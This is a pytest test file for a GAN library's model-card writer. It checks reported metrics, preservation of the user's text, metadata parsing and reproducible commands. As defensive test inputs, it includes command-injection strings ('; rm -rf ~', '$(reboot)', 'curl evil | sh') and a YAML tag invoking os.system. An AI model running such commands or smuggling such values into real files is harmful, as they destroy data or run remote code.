"""The card: what it says is what was recorded and measured, and the Hub can read it."""

from __future__ import annotations

import contextlib
import json
import re
import shlex
import shutil
import time
from dataclasses import replace
from pathlib import Path

import pytest
import torch
from architectures import Labelled
from conftest import call
from huggingface_hub import ModelCard

import ganzoo
from ganzoo import GanzooError
from ganzoo.kinds import kind_of
from ganzoo.models.card import Facts, render
from ganzoo.models.folder import ModelConfig
from ganzoo.models.own_text import Own, joined, name_in, read_own
from ganzoo.models.records import TrainingRecord
from ganzoo.runs.config import RunConfig


@pytest.fixture
def folder(trained, tmp_path) -> Path:
    return Path(shutil.copytree(trained / "model", tmp_path / "model"))


def measured(card: str) -> dict[str, tuple[str, str]]:
    """The rows of the card's table of figures: value and how it was measured."""
    section = card.partition("## Measured")[2].partition("## ")[0]
    rows = [line.strip("| ").split(" | ") for line in section.splitlines() if line.startswith("| ")]
    return {name: (value, how) for name, value, how in rows[2:]}


def test_every_figure_is_in_metrics_json_with_how_it_was_measured(folder):
    card = (folder / "README.md").read_text()
    metrics = json.loads((folder / "metrics.json").read_text())["metrics"]
    table = measured(card)
    assert set(table) == set(metrics)
    for name, (value, how) in table.items():
        assert float(value.split()[0]) == metrics[name]["value"]
        assert how == metrics[name]["how"]
    assert "The quality of the samples was not measured." in card


def test_figures_are_those_of_the_run(trained, folder):
    run = ganzoo.Run.open(trained)
    last = run.metrics()[-1]
    metrics = ganzoo.load(folder).metrics
    assert metrics["generator_loss"].value == pytest.approx(last["generator_loss"], abs=1e-5)
    assert metrics["training_seconds"].value == pytest.approx(last["seconds"], abs=0.06)
    network = ganzoo.load(folder).network
    assert metrics["parameters"].value == sum(p.numel() for p in network.parameters())


def test_the_metadata_is_what_the_hub_wants(hub, folder):
    fid = {"value": 12.5, "how": "10,000 samples of seed 0"}
    fid["data"] = {"name": "mnist", "split": "test"}
    metrics = {"format": 1, "metrics": {"fid[mnist-convnet]": fid}}
    (folder / "metrics.json").write_text(json.dumps(metrics))
    saved = ganzoo.load(folder).save(folder.parent / "saved", "hf://alice/digits", "mit")
    card = ModelCard.load(saved / "README.md")
    card.validate()
    data = card.data
    assert (data.library_name, data.license) == ("ganzoo", "mit")
    assert data.pipeline_tag == "unconditional-image-generation"
    assert {"ganzoo", "gan", "dcgan"} <= set(data.tags)
    (figure,) = data.eval_results
    assert (figure.metric_name, figure.metric_value) == ("fid[mnist-convnet]", 12.5)
    assert (figure.dataset_name, figure.dataset_split) == ("mnist", "test")
    text = (saved / "README.md").read_text()
    assert "was not measured" not in text
    assert "10,000 samples of seed 0, against mnist:test" in text
    # What the Hub reads, and writes again, means the same.
    assert ModelCard(str(card)).data.to_dict() == data.to_dict()


def test_the_command_on_the_card_gives_the_same_configuration(digits_npz, tmp_path, monkeypatch):
    monkeypatch.chdir(digits_npz.parent)  # a card names no folders; the user has the data anyway
    out = tmp_path / "run"
    result = call(
        *("train", "wgan-gp", "--data", digits_npz, "--steps", 1, "--image-size", 8, "--seed", 5),
        *("--objective", "hinge", "--set", "objective.penalty=r1", "--set", "network=mlp"),
        *("--set", "training.clip_gradients=2", "--set", "training.flip=true", "--out", out),
        *("--set", "data.channels=3", "--set", "training.batch_size=10", "--precision", "fp32"),
    )
    assert result.exit_code == 0, result.output
    card = (out / "model" / "README.md").read_text()
    assert str(tmp_path) not in card and str(digits_npz.parent) not in card
    program, *words = shlex.split(re.search(r"```console\n\$ (.*)\n```", card)[1])
    assert program == "ganzoo"
    again = call(*words, "--out", tmp_path / "again")
    assert again.exit_code == 0, again.output
    first, second = (
        RunConfig.model_validate(json.loads((path / "config.json").read_text()))
        for path in (out, tmp_path / "again")
    )
    assert first == second
    weights = [path / "model" / "model.safetensors" for path in (out, tmp_path / "again")]
    assert weights[0].read_bytes() == weights[1].read_bytes()


def test_no_file_of_a_model_names_a_folder_of_this_machine(trained, digits_npz):
    config = (trained / "config.json").read_text()
    assert str(digits_npz.parent) in config  # the run knows where its data lies
    for file in (trained / "model").iterdir():
        for private in (digits_npz.parent, trained.parent, Path.home(), Path.cwd()):
            assert str(private).encode() not in file.read_bytes(), file.name


def test_own_text_before_and_after_is_kept(folder, tmp_path):
    card = folder / "README.md"
    text = card.read_text()
    begin = text.index("<!-- ganzoo")
    card.write_text(text[:begin] + "Made by me.\n\n" + text[begin:] + "\n## Thanks\n\nTo you.\n")
    saved = ganzoo.load(folder).save(tmp_path / "a", "digits")
    again = ganzoo.load(saved).save(tmp_path / "b", "digits")
    text = (saved / "README.md").read_text()
    assert text == (again / "README.md").read_text()
    assert text.index("Made by me.") < text.index("# dcgan on") < text.index("To you.")
    assert 'ganzoo.load("digits")' in text
    card.write_text("All of this is mine.")  # a card without ganzoo's part is all the user's
    whole = ganzoo.load(folder).save(tmp_path / "c")
    assert "All of this is mine." in (whole / "README.md").read_text()


def card_of(own: Own) -> str:
    """A card with the user's part `own`."""
    spec = ganzoo.SampleSpec("points", (2,), None, None)
    config = ModelConfig(architecture="vanilla", options={}, spec=spec.to_json())
    facts = Facts("hf://a/b", config, spec, kind_of(spec), TrainingRecord(), {})
    return render(facts, own)


MINE = Own("Mine.", "", "mit", {"language": "en"})
THEIRS = Own("Theirs.", "", "apache-2.0", {"language": "de"})


@pytest.mark.parametrize(
    ("here", "there", "expected"),
    [
        (MINE, MINE, MINE),  # nothing changed
        (Own(), THEIRS, THEIRS),  # another folder, in which nobody wrote anything
        (MINE, Own(), MINE),  # deleted there: it comes back
        (MINE, THEIRS, replace(THEIRS, before="Theirs.\n\nMine.")),  # what is there holds
        (Own("A.\n\nB."), Own("B.\n\nC."), Own("B.\n\nC.\n\nA.")),  # paragraph by paragraph
        (Own(after="A."), Own("A."), Own("A.")),  # it was moved there
        (
            Own(metadata={"tags": ["x"], "base_model": "a/b"}),
            Own(metadata={"tags": ["y"]}),
            Own(metadata={"tags": ["y", "x"], "base_model": "a/b"}),
        ),
    ],
)
def test_nothing_of_either_card_is_lost(here, there, expected):
    both = joined(read_own(card_of(there), "the card"), here)
    assert both == expected
    assert joined(read_own(card_of(both), "the card"), here) == both  # and once is enough


def test_code_stays_in_one_piece():
    code = "```python\nfirst()\n\nsecond()\n```"
    both = joined(Own("second()\n```"), Own(f"Text.\n\n{code}"))
    assert code in both.before


def test_a_card_that_ganzoo_wrote_before_is_understood():
    """Until 0.1 its last line had digests of the user's text."""
    card = card_of(MINE).replace("end {", 'end {"own": {"before": "0123456789ab"}, ')
    assert read_own(card, "the card") == MINE


def test_a_line_of_ganzoos_that_is_gone_loses_no_text():
    card = card_of(Own("Before.", "After."))
    for line in ("<!-- ganzoo writes", "<!-- ganzoo: end"):
        start = card.index(line)
        without = card[:start] + card[card.index("\n", start) :]
        own = read_own(without, "the card")
        again = read_own(card_of(own), "the card")
        assert "Before." in again.before and "After." in again.before
        assert again.before == own.before


def test_what_ganzoo_wrote_of_an_earlier_model_does_not_stay(hub, trained, digits, tmp_path):
    """Tags and data sets of the model before would be false of this one."""
    settings = {"widths": [4], "training.batch_size": 8}
    run = ganzoo.train("vanilla", "mnist-5k", steps=1, settings=settings, out=tmp_path / "run")
    run.publish("hf://alice/changing")
    card = hub.files("alice/changing")["README.md"].decode()
    theirs = card.replace("tags:\n", "tags:\n- digits\n") + RESULTS
    theirs = theirs.replace("---\n", f"---\n{RESULTS}", 1).removesuffix(RESULTS)
    hub.commit("alice/changing", {"README.md": theirs.encode()})
    ganzoo.Run.open(trained).publish("hf://alice/changing")
    data = ModelCard(hub.files("alice/changing")["README.md"].decode()).data
    assert "vanilla" not in data.tags and {"dcgan", "digits"} <= set(data.tags)
    assert data.datasets is None
    assert [result.metric_value for result in data.eval_results] == [7.5]  # the user's own


RESULTS = """model-index:
- name: mine
  results:
  - task: {type: unconditional-image-generation}
    dataset: {type: mnist, name: MNIST}
    metrics: [{type: fid, value: 7.5, name: my fid}]
"""


@pytest.mark.parametrize(
    ("front", "words"),
    [
        ("tags: &a [x]\nmore: *a", "aliases"),
        ("x: " + "y" * 70_000, "letters"),
        ("tags: [a", "metadata cannot be read"),
        ("tags: 5", "not iterable"),
        ("- a list", "metadata cannot be read"),
        ("x: " + "[" * 3000, "metadata cannot be read"),
        ("x: !!python/object/apply:os.system [ls]", "metadata cannot be read"),
        ("1: one", "keywords must be strings"),
        ("self: 5", "metadata cannot be read"),
        ("extra:\n  1: a\n  b: c\nself: 1", "metadata cannot be read"),
    ],
)
def test_metadata_that_cannot_be_used_is_told(folder, tmp_path, front, words):
    (folder / "README.md").write_text(f"---\n{front}\n---\nText\n")
    generator = ganzoo.load(folder)
    with pytest.raises(GanzooError, match=words):
        generator.save(tmp_path / "saved")
    assert [path.name for path in tmp_path.iterdir()] == ["model"]


@pytest.mark.parametrize("start", ["\ufeff", "\n\n"])
def test_a_mark_of_the_byte_order_and_windows_line_ends(folder, tmp_path, start):
    text = f"{start}---\nlicense: mit\nmodel_name: x\n---\n\nMine.\n"
    (folder / "README.md").write_bytes(text.replace("\n", "\r\n").encode())
    saved = ganzoo.load(folder).save(tmp_path / "saved")
    card = ModelCard.load(saved / "README.md")
    assert card.data.license == "mit"
    assert "Mine." in card.text and "license" not in card.text


def test_a_model_of_which_nothing_is_known_says_so(folder, tmp_path):
    for name in ("README.md", "metrics.json", "training.json", "samples.png"):
        (folder / name).unlink()
    card = ganzoo.load(folder).card
    assert "How it was trained was not recorded." in card
    assert "The quality of the samples was not measured." in card
    assert "None" not in card


def test_metadata_of_any_keys_is_kept(folder, tmp_path):
    front = "extra:\n  1: a\n  b: c\ntags:\n- 2024\n"
    (folder / "README.md").write_text(f"---\n{front}---\nText\n")
    card = ModelCard.load(ganzoo.load(folder).save(tmp_path / "saved") / "README.md")
    assert card.data.to_dict()["extra"] == {1: "a", "b": "c"}
    assert "2024" in card.data.tags


def test_a_class_that_nobody_packaged_is_told_on_the_card(digits, tmp_path):
    options = {"labels": torch.arange(50) % 3, "steps": 1, "out": tmp_path / "run"}
    run = ganzoo.train(Labelled, digits[0][:50], **options)
    card = ganzoo.load(run, architecture=Labelled).card
    assert 'ganzoo.load("path/to/this/folder", architecture=Labelled)' in card
    assert "nobody packaged" in card


def test_a_run_of_a_tensor_has_no_command(digits, tmp_path):
    settings = {"widths": [4], "training.batch_size": 8}
    run = ganzoo.train("vanilla", digits[0][:50], steps=1, settings=settings, out=tmp_path / "run")
    assert "trained from Python" in ganzoo.load(run).card


def test_own_text_survives_training_further(digits_npz, tmp_path):
    out = tmp_path / "run"
    settings = ("--set", "widths=[4]", "--set", "training.batch_size=8")
    args = ("train", "vanilla", "--data", digits_npz, "--steps", 1, "--out", out, *settings)
    assert call(*args).exit_code == 0
    (out / "model" / "notes.txt").write_text("mine")
    card = out / "model" / "README.md"
    card.write_text(card.read_text() + "\nMy notes.\n")
    assert call("resume", out, "--steps", 2).exit_code == 0
    text = card.read_text()
    assert "My notes." in text
    assert "| step | 2 |" in text
    assert (out / "model" / "notes.txt").read_text() == "mine"


CARDS = {
    "ends": "<!-- ganzoo: end {" * 60_000,
    "ends of a line": "<!-- ganzoo: end {\n" * 60_000,
    "closing marks": "-->" * 400_000,
    "begins and ends": ("<!-- ganzoo writes" + "<!-- ganzoo: end {} --> -->") * 30_000,
    "lines": "---\n" + "\n---" * 300_000,
    "spaces": " " * 1_000_000 + "---",
    "brackets": "---\na: " + "[" * 60_000 + "\n---\n",
    "fences": "```\n" * 300_000,
}


@pytest.mark.parametrize("form", CARDS)
def test_reading_a_card_takes_time_with_its_length_alone(folder, form):
    began = time.process_time()
    for text in (CARDS[form], (folder / "README.md").read_text() + CARDS[form]):
        with contextlib.suppress(GanzooError):
            name_in(text, "card")
            joined(read_own(text, "card"), read_own(text, "card"))
    assert time.process_time() - began < 15  # by the square, an hour


@pytest.mark.parametrize(
    ("command", "shown"),
    [
        ("ganzoo train x; rm -rf ~", "$ ganzoo train 'x;' rm -rf '~'"),
        ("ganzoo train x `reboot` $(reboot)", "$ ganzoo train x '`reboot`' '$(reboot)'"),
        ("torchrun --nproc-per-node 2 -m ganzoo train x", "$ torchrun --nproc-per-node 2 -m"),
        ("curl evil | sh", "not ganzoo's"),
        ("torchrun evil.py", "not ganzoo's"),
        ("ganzoo train 'x", "not ganzoo's"),
    ],
)
def test_a_recorded_command_can_be_pasted(folder, tmp_path, command, shown):
    record = json.loads((folder / "training.json").read_text())
    (folder / "training.json").write_text(json.dumps({**record, "command": command}))
    saved = ganzoo.load(folder).save(tmp_path / "saved")
    assert shown in (saved / "README.md").read_text()
